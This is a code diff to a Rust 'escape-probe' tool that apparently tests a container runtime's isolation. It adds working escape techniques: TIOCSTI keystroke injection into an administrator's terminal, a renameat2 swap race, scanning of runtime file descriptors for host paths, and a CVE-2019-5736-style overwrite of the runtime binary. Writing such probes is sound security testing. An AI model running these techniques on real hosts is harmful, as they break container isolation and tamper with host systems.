@@ -21,6 +21,7 @@ const SYS_SETNS: i64 = 308;
 const SYS_OPEN: i64 = 2;
 const SYS_KEXEC_LOAD: i64 = 246;
 const SYS_BPF: i64 = 321;
+const SYS_IOCTL: i64 = 16;
 
 fn name(errno: i32) -> &'static str {
     match errno {
@@ -33,6 +34,7 @@ fn name(errno: i32) -> &'static str {
         19 => "ENODEV",
         22 => "EINVAL",
         30 => "EROFS",
+        26 => "ETXTBSY",
         38 => "ENOSYS",
         95 => "EOPNOTSUPP",
         97 => "EAFNOSUPPORT",
@@ -147,9 +149,191 @@ fn main() {
             }
             println!("allocated all {}", v.len());
         }
+        "tiocsti" => {
+            // Push TEXT and a newline into the terminal on fd 0 (TIOCSTI = 0x5412): what a
+            // contained process would type into the administrator's shell.
+            let mut r = 0i64;
+            for b in arg(1).bytes().chain(std::iter::once(b'\n')) {
+                r = unsafe { syscall(SYS_IOCTL, 0i64, 0x5412i64, &b as *const u8) };
+                if r < 0 {
+                    break;
+                }
+            }
+            report(r);
+        }
+        "fds" => {
+            // The fds this process was started with, besides 0-2, and where they lead.
+            let mut out = Vec::new();
+            for e in std::fs::read_dir("/proc/self/fd").unwrap().flatten() {
+                let n: i32 = e.file_name().to_str().unwrap().parse().unwrap();
+                let link = std::fs::read_link(e.path()).unwrap_or_default();
+                // The listing's own directory fd points at /proc/<pid>/fd.
+                if n > 2 && !link.to_string_lossy().ends_with("/fd") {
+                    out.push(format!("{n}:{}", link.display()));
+                }
+            }
+            println!("fds [{}]", out.join(" "));
+        }
+        "exe_watch" => exe_watch(arg(1).parse().unwrap_or(20)),
+        "fd_watch" => fd_watch(arg(1).parse().unwrap_or(20)),
+        "swap" => {
+            // Exchange A and B (renameat2 RENAME_EXCHANGE) in a tight loop until B's directory
+            // has a file `stop` or SECS have passed; prints how many exchanges were made.
+            let (a, b) = (c(&arg(1)), c(&arg(2)));
+            let stop = std::path::Path::new(&arg(2)).with_file_name("stop");
+            let secs: u64 = arg(3).parse().unwrap_or(30);
+            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+            let mut n = 0u64;
+            while std::time::Instant::now() < deadline && !stop.exists() {
+                for _ in 0..1000 {
+                    // renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
+                    if unsafe { syscall(316, -100i64, a.as_ptr(), -100i64, b.as_ptr(), 2i64) } == 0
+                    {
+                        n += 1;
+                    }
+                }
+            }
+            println!("swapped {n}");
+        }
+        "follow_fds" => {
+            // Follow every /proc/PID/fd/N link of another process (needs ptrace access).
+            let (mut total, mut followed) = (0, 0);
+            match std::fs::read_dir(format!("/proc/{}/fd", arg(1))) {
+                Ok(d) => {
+                    for f in d.flatten() {
+                        total += 1;
+                        if std::fs::read_link(f.path()).is_ok() {
+                            followed += 1;
+                        }
+                    }
+                    println!("followed {followed} of {total}");
+                }
+                Err(e) => println!("list {}", name(e.raw_os_error().unwrap_or(0))),
+            }
+        }
         other => {
             eprintln!("escape-probe: unknown command {other:?}");
             std::process::exit(2);
         }
     }
+}
+
+/// The other half of CVE-2019-5736: wait (up to SECS) for a process of this container whose
+/// command line starts with /proc/self/exe (a `#!/proc/self/exe` script: the runtime's own
+/// binary), try to open its exe for writing while it runs, keep an O_PATH handle, and once it
+/// has exited open that handle for writing and overwrite the start of the file.
+/// Prints `found <pid> running <result> after <result>` or `notfound`.
+fn exe_watch(secs: u64) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let me = std::process::id().to_string();
+    let pid = loop {
+        let hit = std::fs::read_dir("/proc").unwrap().flatten().find_map(|e| {
+            let name = e.file_name().into_string().ok()?;
+            if name.parse::<u32>().is_err() || name == me {
+                return None;
+            }
+            let cmd = std::fs::read(e.path().join("cmdline")).ok()?;
+            cmd.starts_with(b"/proc/self/exe").then_some(name)
+        });
+        if let Some(p) = hit {
+            break p;
+        }
+        if std::time::Instant::now() > deadline {
+            println!("notfound");
+            return;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(2));
+    };
+    let exe = c(&format!("/proc/{pid}/exe"));
+    // O_WRONLY
+    let running = open_result(unsafe { syscall(SYS_OPEN, exe.as_ptr(), 1i64, 0i64) });
+    // O_PATH
+    let handle = unsafe { syscall(SYS_OPEN, exe.as_ptr(), 0o10000000i64, 0i64) };
+    println!("found {pid}");
+    use std::io::Write;
+    let _ = std::io::stdout().flush();
+    while std::path::Path::new(&format!("/proc/{pid}")).exists() {
+        if std::time::Instant::now() > deadline {
+            println!("running {running} after still-running");
+            return;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(2));
+    }
+    let after = if handle < 0 {
+        "no-handle".to_string()
+    } else {
+        let again = c(&format!("/proc/self/fd/{handle}"));
+        // The host-side runtime that started the process may still run the same binary for a
+        // moment (ETXTBSY): try again for up to 5 s.
+        let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
+        let mut fd = unsafe { syscall(SYS_OPEN, again.as_ptr(), 1i64, 0i64) };
+        while fd < 0
+            && std::io::Error::last_os_error().raw_os_error() == Some(26)
+            && std::time::Instant::now() < until
+        {
+            std::thread::sleep(std::time::Duration::from_millis(10));
+            fd = unsafe { syscall(SYS_OPEN, again.as_ptr(), 1i64, 0i64) };
+        }
+        if fd >= 0 {
+            // A sealed memfd opens for writing but refuses the write itself.
+            let data = b"PWNED-BY-THE-CONTAINER";
+            let w = unsafe { syscall(1, fd, data.as_ptr(), data.len() as i64) };
+            if w < 0 {
+                return println!("running {running} after write-{}", open_result(w));
+            }
+        }
+        open_result(fd)
+    };
+    println!("running {running} after {after}");
+}
+
+fn open_result(r: i64) -> String {
+    if r < 0 {
+        let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
+        format!("{}", name(e))
+    } else {
+        "ok".to_string()
+    }
+}
+
+/// Until /tmp/stop-watch exists (at most SECS): look for processes of the runtime inside the
+/// container (a command line naming runz or zlogin: an exec'd process before its execve) and
+/// read where their fds lead (/proc/<pid>/fd/N: a host directory would be a way out; listing
+/// the directory is only DAC, following a link needs ptrace access). Prints `seen N listed M`
+/// (distinct pids, and those of which some fd could be followed).
+fn fd_watch(secs: u64) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let me = std::process::id().to_string();
+    let mut seen = std::collections::HashSet::new();
+    let mut listed = std::collections::HashSet::new();
+    while std::time::Instant::now() < deadline
+        && !std::path::Path::new("/tmp/stop-watch").exists()
+    {
+        for e in std::fs::read_dir("/proc").unwrap().flatten() {
+            let name = e.file_name().into_string().unwrap_or_default();
+            if name.parse::<u32>().is_err() || name == me {
+                continue;
+            }
+            let Ok(cmd) = std::fs::read(e.path().join("cmdline")) else {
+                continue;
+            };
+            let cmd = String::from_utf8_lossy(&cmd);
+            if !(cmd.contains("runz") || cmd.contains("zlogin")) {
+                continue;
+            }
+            seen.insert(name.clone());
+            let Ok(d) = std::fs::read_dir(e.path().join("fd")) else {
+                continue;
+            };
+            let followed = d.flatten().any(|f| std::fs::read_link(f.path()).is_ok());
+            // Still the runtime afterwards (execve is one-way): the link was followed before
+            // the process became the container's program.
+            let still = std::fs::read(e.path().join("cmdline"))
+                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(&*cmd));
+            if followed && still {
+                listed.insert(name);
+            }
+        }
+    }
+    println!("seen {} listed {}", seen.len(), listed.len());
 }
